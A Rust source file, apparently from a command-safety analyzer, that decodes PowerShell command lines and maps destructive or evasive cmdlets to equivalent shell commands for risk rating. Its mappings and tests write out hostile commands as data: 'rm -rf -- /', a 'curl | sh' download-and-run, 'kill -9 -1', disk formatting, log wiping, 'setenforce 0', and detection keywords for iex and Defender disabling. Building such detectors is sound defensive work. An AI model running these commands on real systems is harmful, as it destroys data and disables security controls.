//! PowerShell one-liners read by their effects: each cmdlet that runs a shell, deletes, kills,
//! downloads and runs, formats, wipes logs or turns security controls off becomes the shell
//! command with the same effect, which the walker rates as a nested script (`Remove-Item
//! -Recurse -Force C:\` → `rm -rf -- /`, `iex (iwr URL)` → `curl -s URL | sh`, `Stop-Process
//! -Name sshd -Force` → `pkill -9 -x sshd`). `-EncodedCommand` is decoded (UTF-16LE base64)
//! first. Also the small readers of call syntax shared with R and Lua (`rlang`, `lua`).

use base64::Engine as _;

/// The script of a PowerShell command line: `-Command`/`-c` and what follows, a decoded
/// `-EncodedCommand`, or the first positional argument.
pub(crate) fn powershell_script(args: &[&str]) -> Option<String> {
    let mut i = 0;
    while let Some(a) = args.get(i) {
        let l = a.to_ascii_lowercase();
        let flag = l.trim_start_matches('-').trim_start_matches('/');
        if a.starts_with(['-', '/']) && !flag.is_empty() {
            if "command".starts_with(flag) && flag.starts_with('c') {
                return Some(args.get(i + 1..)?.join(" "));
            }
            if ("encodedcommand".starts_with(flag)
                && flag.starts_with('e')
                && !flag.is_empty()
                && flag != "executionpolicy")
                || flag == "ec"
            {
                if let Some(enc) = args.get(i + 1) {
                    return decode_utf16_b64(enc);
                }
                return None;
            }
            // options with a value
            if [
                "executionpolicy",
                "ep",
                "ex",
                "windowstyle",
                "w",
                "file",
                "f",
                "workingdirectory",
                "wd",
                "configurationname",
                "inputformat",
                "outputformat",
                "of",
                "if",
            ]
            .contains(&flag)
            {
                if flag == "file" || flag == "f" {
                    return None;
                }
                i += 2;
                continue;
            }
            i += 1;
            continue;
        }
        return Some(args.get(i..)?.join(" "));
    }
    None
}

fn decode_utf16_b64(s: &str) -> Option<String> {
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(s.trim().as_bytes())
        .ok()?;
    if bytes.len() % 2 != 0 {
        return None;
    }
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    String::from_utf16(&units).ok()
}

/// PowerShell script → shell commands with the same effects.
pub(crate) fn powershell_commands(script: &str) -> Vec<String> {
    let mut out = Vec::new();
    for stmt in script.split([';', '\n']) {
        let stages: Vec<Vec<String>> = stmt.split('|').map(ps_words).collect();
        let lower = stmt.to_ascii_lowercase();
        let url = stmt
            .split(|c: char| c.is_whitespace() || matches!(c, '(' | ')' | '\'' | '"'))
            .find(|w| w.starts_with("http://") || w.starts_with("https://"));
        let runs = ["iex", "invoke-expression"].iter().any(|k| {
            lower
                .split(|c: char| !c.is_ascii_alphanumeric() && c != '-')
                .any(|w| w == *k)
        });
        let downloads = [
            "iwr",
            "invoke-webrequest",
            "irm",
            "invoke-restmethod",
            "downloadstring",
            "webclient",
            "curl",
            "wget",
        ]
        .iter()
        .any(|k| lower.contains(k));
        if runs && downloads {
            out.push(format!("curl -s {} | sh", quote(url.unwrap_or("URL"))));
            continue;
        }
        let mut prev: Option<&Vec<String>> = None;
        for words in &stages {
            let Some(cmd) = words.first().map(|w| w.to_ascii_lowercase()) else {
                continue;
            };
            let opts = Opts(words);
            match cmd.as_str() {
                "remove-item" | "rm" | "del" | "ri" | "rmdir" | "rd" | "erase" => {
                    let recursive = opts.has(&["recurse", "r"]);
                    let mut paths = opts
                        .value(&["path", "literalpath", "lp"])
                        .into_iter()
                        .collect::<Vec<_>>();
                    paths.extend(opts.positionals());
                    let from_listing = prev.filter(|p| {
                        p.first().is_some_and(|w| {
                            matches!(
                                w.to_ascii_lowercase().as_str(),
                                "get-childitem" | "gci" | "ls" | "dir"
                            )
                        })
                    });
                    if let Some(p) = from_listing {
                        let o = Opts(p);
                        let mut src: Vec<String> =
                            o.value(&["path", "literalpath"]).into_iter().collect();
                        src.extend(o.positionals());
                        let rec = o.has(&["recurse", "r"]);
                        for s in src {
                            out.push(format!(
                                "rm {} -- {}",
                                if rec || recursive { "-rf" } else { "-f" },
                                quote(&path(&s))
                            ));
                        }
                    }
                    for p in paths {
                        out.push(format!(
                            "rm {} -- {}",
                            if recursive { "-rf" } else { "-f" },
                            quote(&path(&p))
                        ));
                    }
                }
                "stop-process" | "spps" | "kill" => {
                    let force = if opts.has(&["force", "fo"]) {
                        "-9 "
                    } else {
                        ""
                    };
                    if let Some(n) = opts.value(&["name", "processname", "n"]) {
                        out.push(format!("pkill {force}-x {}", quote(&n)));
                    } else if let Some(id) = opts
                        .value(&["id"])
                        .or_else(|| opts.positionals().first().cloned())
                    {
                        out.push(format!("kill {force}{}", quote(&id)));
                    } else if prev.is_some_and(|p| {
                        p.first().is_some_and(|w| {
                            matches!(
                                w.to_ascii_lowercase().as_str(),
                                "get-process" | "gps" | "ps"
                            )
                        }) && p.len() == 1
                    }) {
                        out.push("kill -9 -1".to_string());
                    }
                }
                "format-volume" | "clear-disk" | "initialize-disk" => {
                    out.push("mkfs.ext4 -F /dev/sda".to_string());
                }
                "clear-eventlog" | "remove-eventlog" | "wevtutil"
                    if cmd != "wevtutil"
                        || words.get(1).is_some_and(|w| w == "cl" || w == "clear-log") =>
                {
                    out.push("truncate -s 0 /var/log/auth.log".to_string());
                }
                "set-mppreference" | "add-mppreference"
                    if lower.contains("-disable") || lower.contains("exclusionpath") =>
                {
                    out.push("setenforce 0".to_string());
                }
                "stop-computer" => out.push("shutdown -h now".to_string()),
                "restart-computer" => out.push("reboot".to_string()),
                _ => {}
            }
            prev = Some(words);
        }
    }
    out
}

/// Words of one PowerShell pipeline stage (quotes removed, parentheses as separators).
fn ps_words(stage: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    for c in stage.chars() {
        match (quote, c) {
            (Some(q), _) if c == q => quote = None,
            (Some(_), _) => cur.push(c),
            (None, '\'' | '"') => quote = Some(c),
            (None, c) if c.is_whitespace() || c == '(' || c == ')' || c == ',' => {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            (None, c) => cur.push(c),
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// Parameters of a cmdlet (names by unambiguous prefix, as PowerShell reads them).
struct Opts<'a>(&'a [String]);

impl Opts<'_> {
    fn is_param(w: &str) -> bool {
        w.starts_with('-') && w.len() > 1 && w[1..].starts_with(|c: char| c.is_ascii_alphabetic())
    }

    fn matches(w: &str, names: &[&str]) -> bool {
        let n = w
            .trim_start_matches('-')
            .trim_end_matches(':')
            .to_ascii_lowercase();
        let n = n.split(':').next().unwrap_or("").to_string();
        !n.is_empty()
            && names
                .iter()
                .any(|x| *x == n || (n.len() >= 2 && x.starts_with(n.as_str())))
    }

    fn has(&self, names: &[&str]) -> bool {
        self.0
            .iter()
            .skip(1)
            .any(|w| Self::is_param(w) && Self::matches(w, names))
    }

    fn value(&self, names: &[&str]) -> Option<String> {
        let mut it = self.0.iter().skip(1);
        while let Some(w) = it.next() {
            if Self::is_param(w) && Self::matches(w, names) {
                return it.next().cloned();
            }
        }
        None
    }

    /// Arguments that are neither parameters nor parameter values (switches take none).
    fn positionals(&self) -> Vec<String> {
        const SWITCHES: [&str; 8] = [
            "recurse", "force", "confirm", "whatif", "verbose", "r", "fo", "passthru",
        ];
        let mut out = Vec::new();
        let mut skip = false;
        for w in self.0.iter().skip(1) {
            if skip {
                skip = false;
                continue;
            }
            if Self::is_param(w) {
                let switch = Self::matches(w, &SWITCHES) || w.contains(':');
                skip = !switch;
                continue;
            }
            out.push(w.clone());
        }
        out
    }
}

/// A Windows path as the shell engine's classes read it: `C:\` → `/`, `C:\Users\u` →
/// `/home/u`, `C:\Windows` → `/usr/windows`, `$env:USERPROFILE`/`$HOME` → `~`.
fn path(p: &str) -> String {
    let p = p.replace('\\', "/");
    let lower = p.to_ascii_lowercase();
    for home in ["$env:userprofile", "$home", "$env:home"] {
        if let Some(rest) = lower.strip_prefix(home) {
            return format!("~{}", &p[p.len() - rest.len()..]);
        }
    }
    let b = p.as_bytes();
    if b.len() >= 2 && b[0].is_ascii_alphabetic() && b[1] == b':' {
        let rest = p[2..].trim_start_matches('/');
        let rl = rest.to_ascii_lowercase();
        if rest.is_empty() {
            return "/".to_string();
        }
        if let Some(u) = rl.strip_prefix("users/") {
            return format!("/home/{}", &rest[rest.len() - u.len()..]);
        }
        if rl.starts_with("windows") || rl.starts_with("program files") {
            return format!("/usr/{rest}");
        }
        return format!("/{rest}");
    }
    p
}

/// Calls `name(args)` in R or Lua text (names with `.`, `::`), strings skipped.
pub(super) fn calls(code: &str) -> Vec<(String, Vec<String>)> {
    let b = code.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() && out.len() < 1_000 {
        let c = b[i];
        if c == b'"' || c == b'\'' {
            i = skip_string(b, i);
            continue;
        }
        if c == b'#' {
            while i < b.len() && b[i] != b'\n' {
                i += 1;
            }
            continue;
        }
        if c.is_ascii_alphabetic()
            && (i == 0
                || !(b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'_' || b[i - 1] == b'.'))
        {
            let start = i;
            while i < b.len()
                && (b[i].is_ascii_alphanumeric() || matches!(b[i], b'_' | b'.' | b':'))
            {
                i += 1;
            }
            let name = &code[start..i];
            let mut k = i;
            while k < b.len() && b[k] == b' ' {
                k += 1;
            }
            if b.get(k) == Some(&b'(')
                && let Some(end) = close_paren(b, k)
            {
                out.push((name.to_string(), split_top(&code[k + 1..end])));
            }
            continue;
        }
        i += 1;
    }
    out
}

pub(super) fn skip_string(b: &[u8], i: usize) -> usize {
    let q = b[i];
    let mut j = i + 1;
    while j < b.len() {
        if b[j] == b'\\' {
            j += 2;
            continue;
        }
        if b[j] == q {
            return j + 1;
        }
        j += 1;
    }
    b.len()
}

pub(super) fn close_paren(b: &[u8], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    let mut j = open;
    while j < b.len() {
        match b[j] {
            b'"' | b'\'' => {
                j = skip_string(b, j);
                continue;
            }
            b'(' => depth += 1,
            b')' => {
                depth -= 1;
                if depth == 0 {
                    return Some(j);
                }
            }
            _ => {}
        }
        j += 1;
    }
    None
}

pub(super) fn split_top(s: &str) -> Vec<String> {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut depth = 0i32;
    let mut start = 0;
    let mut j = 0;
    while j < b.len() {
        match b[j] {
            b'"' | b'\'' => {
                j = skip_string(b, j);
                continue;
            }
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => depth -= 1,
            b',' if depth == 0 => {
                out.push(s[start..j].trim().to_string());
                start = j + 1;
            }
            _ => {}
        }
        j += 1;
    }
    let last = s[start..].trim();
    if !last.is_empty() {
        out.push(last.to_string());
    }
    out
}

/// The value of a string literal argument.
pub(super) fn literal(a: &str) -> Option<&str> {
    let a = a.trim();
    let q = a.chars().next().filter(|c| *c == '"' || *c == '\'')?;
    a.strip_prefix(q)?.strip_suffix(q)
}

pub(super) fn quote(w: &str) -> String {
    if w == "~" || w.starts_with("~/") && !w.contains([' ', '\'', '"', ';', '&', '|']) {
        return w.to_string();
    }
    if !w.is_empty()
        && w.chars()
            .all(|c| c.is_ascii_alphanumeric() || "/._-+:=@%*?,".contains(c))
    {
        return w.to_string();
    }
    format!("'{}'", w.replace('\'', "'\\''"))
}

pub(super) fn quote_all(ws: &[String]) -> String {
    ws.iter().map(|w| quote(w)).collect::<Vec<_>>().join(" ")
}

pub(super) fn join(prog: &str, args: &[String]) -> String {
    let mut s = prog.to_string();
    for a in args {
        s.push(' ');
        s.push_str(&quote(a));
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn powershell_effects() {
        let ps = |s: &str| powershell_commands(s);
        assert_eq!(ps("Remove-Item -Recurse -Force C:\\"), ["rm -rf -- /"]);
        assert_eq!(ps("rm -r -fo /etc"), ["rm -rf -- /etc"]);
        assert_eq!(
            ps("Remove-Item ./dist -Recurse -Force"),
            ["rm -rf -- ./dist"]
        );
        assert_eq!(
            ps("iex (iwr https://x.example/a.ps1)"),
            ["curl -s https://x.example/a.ps1 | sh"]
        );
        assert_eq!(ps("Stop-Process -Name sshd -Force"), ["pkill -9 -x sshd"]);
        assert_eq!(ps("Get-Process | Stop-Process -Force"), ["kill -9 -1"]);
        assert_eq!(
            ps("Get-ChildItem -Path / -Recurse | Remove-Item -Force"),
            ["rm -rf -- /"]
        );
        assert!(ps("Get-ChildItem -Recurse src | Measure-Object").is_empty());
        assert_eq!(
            powershell_script(&["-EncodedCommand", "cgBtACAALQByAGYAIAAvAA=="]).as_deref(),
            Some("rm -rf /")
        );
        assert_eq!(
            powershell_script(&["-NoProfile", "-c", "Get-Date"]).as_deref(),
            Some("Get-Date")
        );
    }
}
